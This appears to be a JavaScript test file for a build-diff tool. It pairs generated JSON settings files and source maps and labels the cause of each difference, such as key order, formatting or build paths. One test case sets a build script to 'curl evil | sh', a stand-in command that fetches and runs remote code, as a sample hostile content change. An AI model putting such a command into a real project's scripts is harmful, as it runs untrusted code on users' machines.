/** Files of data: what they say, how it is written, and where a build leaves its traces. */
import { honest } from './cases.mjs'
import { python } from './shell.mjs'

const settings = options =>
  python(`import json
settings = {'name': 'hello', 'scripts': {'test': 'true', 'build': 'make'}, 'files': ['b.js', 'a.js', 'c.js'], 'ratio': 1.5}
${options.edit ?? ''}
json.dump(settings, open('out', 'w'), ${options.write ?? 'indent=2'})`)
const written = settings({})
honest('json/value', {
  why: 'One value of a file of settings.',
  a: written,
  b: settings({ edit: `settings['scripts']['build'] = 'curl evil | sh'` }),
  causes: ['content-change'],
})
honest('json/key-order', {
  why: 'The same keys and values, sorted on one side.',
  a: written,
  b: settings({ write: 'indent=2, sort_keys=True' }),
  causes: ['structured-key-order'],
})
honest('json/spelling', {
  why: 'The same data without indentation.',
  a: written,
  b: settings({ write: `separators=(',', ':')` }),
  causes: ['formatting-only'],
})
honest('json/item-order', {
  why: 'The items of a list, sorted on one side.',
  a: written,
  b: settings({ edit: `settings['files'].sort()` }),
  causes: ['readdir-order'],
})

const map = (folder, mappings = 'AAAA;AACA') =>
  python(`import json
json.dump({'version': 3, 'file': 'hello.js', 'sources': ['${folder}/src/hello.ts', '${folder}/src/name.ts'], 'names': [], 'mappings': '${mappings}'}, open('out', 'w'))`)
const maps = ['a.js.map', 'b.js.map']
honest('json/source-map-path', {
  files: maps,
  why: 'Two folders of a build in the paths of a source map.',
  a: map('/build/hello-a1'),
  b: map('/srv/b2/hello'),
  causes: ['build-path'],
})
honest('json/source-map-lines', {
  files: maps,
  why: 'Other mappings beside another folder: not all is explained by it.',
  a: map('/build/hello-a1'),
  b: map('/srv/b2/hello', 'AAAA;AADA'),
  causes: ['content-change'],
})
